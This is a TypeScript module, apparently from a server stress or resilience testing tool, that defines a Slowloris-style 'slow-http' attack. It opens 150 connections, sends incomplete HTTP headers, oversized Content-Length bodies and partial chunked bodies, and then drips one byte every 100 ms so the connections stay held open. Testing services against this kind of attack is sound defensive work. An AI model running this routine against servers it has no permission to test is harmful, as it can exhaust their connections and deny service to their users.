import type { Attack } from './attack.js';
import type { Scene } from './scene.js';

const CONNECTIONS = 150;
const DRIP_EVERY_MS = 100;

/** Heads and bodies that come byte by byte or not at all. */
function beginning(scene: Scene, number: number): string {
  const head = `POST /v1/items HTTP/1.1\r\nHost: ${scene.host}\r\nContent-Type: application/x-ndjson\r\n`;
  const beginnings = [
    'G',
    `GET / HTTP/1.1\r\nHost: ${scene.host}\r\nX: `,
    `${head.replace('POST', 'PUT')}Content-Length: 8000000\r\n\r\n${'{"id":"hostile-slow"}\n'.repeat(8_000)}`,
    `${head.replace('/v1/items', '/v1/events')}Content-Length: 1000000\r\n\r\n{`,
    `${head.replace('/v1/items', '/v1/events')}Transfer-Encoding: chunked\r\n\r\n1\r\n{\r\n`,
  ];
  return beginnings[number % beginnings.length];
}

async function drip(scene: Scene): Promise<void> {
  const sockets = Array.from({ length: CONNECTIONS }, (_, number) => {
    const socket = scene.tcp();
    socket.write(beginning(scene, number));
    return socket;
  });
  while (!scene.isOver) {
    for (const socket of sockets) if (socket.writable && socket.write('x')) scene.did();
    await scene.pause(DRIP_EVERY_MS);
  }
}

export const slowHttp: Attack = {
  name: 'slow-http',
  what: `${CONNECTIONS} requests whose heads and bodies come byte by byte`,
  weight: 0.7,
  run: drip,
};
